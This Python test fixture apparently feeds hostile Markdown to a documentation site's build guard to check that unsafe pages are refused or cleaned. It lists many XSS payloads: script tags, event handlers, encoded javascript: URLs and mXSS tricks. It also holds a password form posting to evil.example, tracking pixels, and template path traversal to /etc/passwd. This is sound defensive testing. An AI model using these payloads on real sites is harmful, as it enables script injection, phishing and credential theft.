"""The hostile corpus: what a careless or hostile contributor might write in a page.

`REFUSED`: Markdown that must fail the build, naming the page and the line of the snippet.
`PASSING`: Markdown that looks dangerous or uses every allowed feature, and must build into
pages with nothing unsafe in them. Each case becomes one page, `vi/c/<name>.md`, so one build
checks them all.
"""

from __future__ import annotations

from dataclasses import dataclass

HOSTILE_URL = "https://evil.example/"


@dataclass(frozen=True)
class Case:
    name: str  # the page's file name, without .md
    markdown: str  # the snippet, placed after a title and a first paragraph


REFUSED = [
    # <script>, in every spelling
    Case("script", "<script>alert('script')</script>"),
    Case("script-mixed-case", "<ScRiPt>alert('mixed')</sCrIpT>"),
    Case("script-src", '<script src="/assets/javascripts/x.js"></script>'),
    Case("script-in-admonition", "!!! note\n    <script>alert('admonition')</script>"),
    Case("script-in-svg", "<svg><script>alert('svg')</script></svg>"),
    Case("script-in-template", "<template><script>alert('template')</script></template>"),
    Case("script-in-textarea", "<textarea><script>alert('textarea')</script></textarea>"),
    # on… handlers: raw HTML and attr_list
    Case("img-onerror", '<img src="a.png" onerror="alert(\'onerror\')" alt="a">'),
    Case("p-onclick", "<p onclick=\"alert('onclick')\">Bấm vào đây</p>"),
    Case("details-ontoggle",
         "<details open ontoggle=\"alert('toggle')\"><summary>Xem</summary>Nội dung</details>"),
    Case("svg-onload", "<svg onload=\"alert('svgload')\"></svg>"),
    Case("div-markdown-onclick",
         "<div markdown=\"1\" onclick=\"alert('mdinhtml')\">\n\n**đậm**\n\n</div>"),
    Case("abbr-onmouseover", "<abbr title=\"x\" onmouseover=\"alert('abbr')\">UBND</abbr>"),
    Case("attr-list-onclick", "Đoạn văn có sự kiện.\n{: onclick=\"alert('attrlist')\" }"),
    Case("attr-list-heading", "## Tiêu đề { onmouseover=alert('heading') }"),
    Case("attr-list-style", "Chữ đỏ.\n{: style=\"color:red\" }"),
    Case("attr-list-href", "[liên kết](https://example.org){: href=\"javascript:alert('al')\" }"),
    Case("attr-list-reserved-class", "Hộp thoại giả.\n{: .md-dialog }"),
    Case("attr-list-reserved-id", "Nút giả.\n{: #__drawer }"),
    Case("input-onfocus", "<input autofocus onfocus=\"alert('focus')\">"),
    Case("marquee-onstart", "<marquee onstart=\"alert('marquee')\">chạy chữ</marquee>"),
    # URL schemes, encoded
    Case("javascript-link", "[bấm](javascript:alert('js'))"),
    Case("javascript-mixed-case", "[bấm](JaVaScRiPt:alert('case'))"),
    Case("javascript-decimal-entity", "[bấm](&#106;avascript:alert('dec'))"),
    Case("javascript-hex-entity",
         "<a href=\"&#x6A;&#x61;&#x76;&#x61;script:alert('hex')\">bấm</a>"),
    Case("javascript-named-entity", "<a href=\"javascript&colon;alert('colon')\">bấm</a>"),
    Case("javascript-tab", "<a href=\"java&#9;script:alert('tab')\">bấm</a>"),
    Case("javascript-newline", "<a href=\"java\nscript:alert('newline')\">bấm</a>"),
    Case("javascript-leading-control", "<a href=\" &#14; javascript:alert('ctrl')\">bấm</a>"),
    Case("javascript-reference", "[bấm][lien-ket]\n\n[lien-ket]: javascript:alert('ref')"),
    Case("javascript-footnote", "Chú thích[^1].\n\n[^1]: [bấm](javascript:alert('fn'))"),
    Case("javascript-area", "<map name=\"m\"><area href=\"javascript:alert('area')\"></map>"),
    Case("javascript-math",
         "<math><mtext><a xlink:href=\"javascript:alert('math')\">x</a></mtext></math>"),
    Case("button-formaction", "<button formaction=\"javascript:alert('fa')\">Gửi</button>"),
    Case("vbscript-link", "[bấm](vbscript:msgbox('vb'))"),
    Case("data-link", "[bấm](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Case("file-link", "[mật khẩu](file:///etc/passwd)"),
    Case("ftp-link", "[tệp](ftp://example.org/tep)"),
    Case("http-link", "[trang](http://example.org/)"),
    Case("http-autolink-upper", "<HTTP://example.org/>"),
    Case("javascript-angle-link", "[bấm](<javascript:alert('angle')>)"),
    Case("javascript-reference-image", "![ảnh][anh]\n\n[anh]: javascript:alert('refimg')"),
    Case("javascript-no-semicolons",
         "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
         "&#0000112&#0000116&#0000058alert('nosemi')\">bấm</a>"),
    Case("embed-javascript", "<embed src=\"javascript:alert('embed')\">"),
    Case("attr-list-data", "Đoạn văn.\n{: data-x=\"1\" }"),
    Case("attr-list-title", "Đoạn văn.\n{: title=\"Gợi ý\" }"),
    Case("link-download", '<a href="tai-lieu.pdf" download>tải</a>'),
    Case("svg-animate", "<svg><animate onbegin=\"alert('anim')\" attributeName=\"x\" "
                        "dur=\"1s\"></animate></svg>"),
    Case("body-onload", "<body onload=\"alert('body')\">"),
    Case("form-md-in-html", "<form markdown action=\"https://evil.example/\">\n\n**Gửi**\n\n"
                            "</form>"),
    Case("cdata", "<![CDATA[<script>alert('cdata')</script>]]>"),
    Case("comment-bang-close", "<!-- x --!><script>alert('bang')</script>"),
    Case("noembed-differential",
         "<noembed><img title=\"</noembed><img src onerror=alert('noembed')>\"></noembed>"),
    Case("xmp", "<xmp><img src=x onerror=alert('xmp')></xmp>"),
    Case("select-template-mxss",
         "<select><template><style><img src=x onerror=alert('mxss')></style></template></select>"),
    Case("form-attribute-button",
         "<button form=\"f\" formaction=\"javascript:alert('formattr')\">Gửi</button>"),
    Case("math-maction",
         "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert('maction')\">"
         "x</maction></math>"),
    Case("keygen-applet", "<applet code=\"X.class\"></applet><keygen autofocus onfocus=x>"),
    Case("protocol-relative-link", "[trang](//evil.example/dang-nhap)"),
    Case("backslash-link", "<a href=\"/\\evil.example/\">trang</a>"),
    # tracking pixels and remote images
    Case("remote-image-raw",
         '<img src="https://tracker.example/p.gif" width="1" height="1" alt="">'),
    Case("remote-srcset", '<img src="a.png" srcset="https://tracker.example/x.png 2x" alt="a">'),
    Case("link-ping", '<a href="https://example.org/" ping="https://tracker.example/">bấm</a>'),
    # elements that embed, redirect, restyle or phish
    Case("iframe", f'<iframe src="{HOSTILE_URL}"></iframe>'),
    Case("object", '<object data="x.swf" type="application/x-shockwave-flash"></object>'),
    Case("embed", '<embed src="x.swf">'),
    Case("form-password",
         f'<form action="{HOSTILE_URL}"><label>Mật khẩu <input type="password" name="p">'
         "</label><button>Đăng nhập</button></form>"),
    Case("base", f'<base href="{HOSTILE_URL}">'),
    Case("style-element", "<style>body { display: none }</style>"),
    Case("meta-refresh", f'<meta http-equiv="refresh" content="0;url={HOSTILE_URL}">'),
    Case("meta-refresh-upper", f'<META HTTP-EQUIV="Refresh" CONTENT="0; URL={HOSTILE_URL}">'),
    Case("link-stylesheet", f'<link rel="stylesheet" href="{HOSTILE_URL}x.css">'),
    Case("target-blank", '<a href="https://example.org/" target="_blank">mở</a>'),
    Case("video-raw", '<video src="clip.mp4" autoplay></video>'),
    Case("audio-raw", '<audio src="tieng.mp3" autoplay></audio>'),
    Case("noscript-differential",
         "<noscript><p title=\"</noscript><img src=x onerror=alert('ns')>\"></noscript>"),
    Case("td-style", '<table><tr><td style="color:red">ô</td></tr></table>'),
    # comments and processing instructions
    Case("comment", "<!-- ghi chú nội bộ: chưa duyệt, hỏi anh Nam -->"),
    Case("comment-inline", "Văn bản <!-- ẩn: số điện thoại riêng --> tiếp tục."),
    Case("processing-instruction", "<?php echo 'php'; ?>"),
]

# Markdown images are resolved when the content is loaded (ttdn.assets), before any page is
# rendered: these stop the build there, with their line, so they get a build of their own.
REFUSED_AT_LOAD = [
    Case("data-image", "![ảnh](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAf"
                       "FcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)"),
    Case("remote-image", "![điểm ảnh](https://tracker.example/p.gif)"),
]

# Malformed or tricky input whose fate depends on the parsers: it either fails the build with the
# snippet's line, or yields a clean page (both are checked).
EITHER = [
    Case("img-unclosed", "<img src=x onerror=alert('unclosed')"),
    Case("script-split", "<scr<script>ipt>alert('split')</script>"),
    Case("link-unclosed", "<a href=\"javascript:alert('open')\""),
    Case("script-nested-brackets", "<<script>script>alert('nested')<</script>/script>"),
    Case("javascript-colon-entity-link", "[bấm](javascript&#58;alert('colon'))"),
    Case("javascript-spaces-link", "[bấm](  javascript:alert('spaces')  )"),
    Case("heading-reserved-id", "## __drawer"),
    Case("control-character", "<a href=\"\x01javascript:alert('ctl')\">bấm</a>"),
    Case("tab-in-markdown-link", "[bấm](java\tscript:alert('tab'))"),
    Case("tel-javascript", "[gọi](tel:javascript:alert('tel'))"),
    Case("abbr-definition-html", "UBND họp.\n\n*[UBND]: <script>alert('abbr')</script>"),
    Case("link-title-breakout", "[x](https://example.org/ 'a\" onmouseover=\"alert(1)')"),
]

PASSING = [
    Case("escaped-text", "&lt;script&gt;alert('escaped')&lt;/script&gt; và \\<b>không đậm\\</b>"),
    # Python-Markdown makes autolinks of http(s) and e-mail only: this stays text.
    Case("javascript-autolink", "<javascript:alert('autolink')>"),
    Case("code-span", "Mã `<script>alert('code')</script>` trong dòng."),
    Case("code-block",
         "```html\n<script>alert('fence')</script>\n<img src=x onerror=alert(1)>\n```"),
    Case("indented-code", "Đoạn trước.\n\n    <iframe src=\"https://evil.example/\"></iframe>"),
    Case("safe-links",
         "[Cổng thông tin](https://www.quangngai.gov.vn/), [thư](mailto:ttdn@example.vn), "
         "[điện thoại](tel:+842553822222), [giới thiệu](../index.md), [mục](#muc-hai), "
         "<https://example.org/duong-dan?a=1&b=2>, <ttdn@example.vn>.\n\n## Mục hai"),
    Case("link-title-quotes",
         "[liên kết](https://example.org/ \"Tiêu đề \\\" onmouseover=\\\"alert(1)\")"),
    Case("reference-https", "[Trang][ref]\n\n[ref]: https://example.org/ \"Tiêu đề\""),
    Case("footnote-abbr",
         "UBND tỉnh[^1] ban hành kế hoạch.\n\n[^1]: Ủy ban nhân dân.\n\n"
         "*[UBND]: Ủy ban nhân dân"),
    Case("definition-list", "Thông tin đối ngoại\n:   Công tác thông tin ra nước ngoài."),
    Case("admonition-details",
         "!!! note \"Lưu ý\"\n    Nội dung lưu ý.\n\n??? warning \"Xem thêm\"\n    Nội dung ẩn."),
    Case("table-aligned",
         "| Trái | Giữa | Phải |\n|:-----|:----:|-----:|\n| a | b | c |"),
    Case("attr-list-class-id", "Đoạn có lớp.\n{: .ghi-chu #doan-mot lang=\"en\" }"),
    Case("md-in-html",
         "<div class=\"ttdn-cards\" markdown>\n\n**Thẻ** với [liên kết](#)\n\n</div>"),
    Case("html-inline-safe", "Chữ <strong>đậm</strong>, <em>nghiêng</em>, H<sub>2</sub>O, "
                              "<kbd>Ctrl</kbd>, <mark>đánh dấu</mark>."),
    Case("quotes-and-ampersands", "Chương trình \"Gặp gỡ Quảng Ngãi\" & 'Hội nghị' < 5 > 3."),
]


# -- the gate's classes (ttdn.guard.gate): refused by name before anything reads the file ----

# Markdown beyond the limits (ttdn.guard.limits): page name → (Markdown, rule).
LIMITS = {
    "list-one-line": ("- 1. " * 25_000, "line-too-long"),  # the 125 KB one-liner
    "list-nested-lines": ("\n".join("    " * d + "- mục" for d in range(12)), "nesting-too-deep"),
    "list-nested-tabs": ("\n".join("\t" * d + "* mục" for d in range(12)), "nesting-too-deep"),
    "quote-nested": ("> " * 12 + "trích dẫn", "nesting-too-deep"),
    "quote-list-mixed": ("> - > 1. > * > + > - > 1) > - x", "nesting-too-deep"),
    "table-long": ("| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 2_001, "table-too-long"),
    "table-long-no-pipes": ("a | b\n--- | ---\n" + "1 | 2\n" * 2_001, "table-too-long"),
    "page-large": (("Đoạn văn bình thường về biển đảo Quảng Ngãi. " * 20 + "\n\n") * 600,
                   "page-too-large"),
}

# Front matter refused when the content is loaded: page name → (extra front-matter lines, rule).
BIDI = "\u202e"
FRONT_MATTER = {
    "template-traversal": ("template: ../../../../etc/passwd\n", "schema"),
    "template-absolute": ("template: /etc/passwd\n", "schema"),
    "template-theme": ("template: base.html\n", "schema"),
    "duplicate-title": ("title: Tiêu đề thứ hai\n", "yaml-duplicate-key"),
    "duplicate-nested": ("video: {src: a.mp4, src: b.mp4, poster: a.jpg, title: x}\n",
                         "yaml-duplicate-key"),
    "bidi-override-description": (f"description: 'Kế hoạch {BIDI}fdp.exe'\n", "schema"),
    "bidi-escaped-agency": ('agency: "Sở\\u202eNgoại vụ"\n', "schema"),
    "bidi-isolate-tag": ('tags: ["biển\\u2066đảo"]\n', "schema"),
    "zero-width-space-agency": ('agency: "Sở\\u200bNgoại vụ"\n', "schema"),
    "zero-width-joiner": ('agency: "Sở\\u200dNgoại vụ"\n', "schema"),
    "bom-inside": ('agency: "Sở\\ufeffNgoại vụ"\n', "schema"),
    "arabic-mark": ('agency: "Sở\\u061cNgoại vụ"\n', "schema"),
    "lrm-rlm": ('agency: "Sở\\u200e\\u200fNgoại vụ"\n', "schema"),
    "word-joiner": ('agency: "Sở\\u2060Ngoại vụ"\n', "schema"),
}
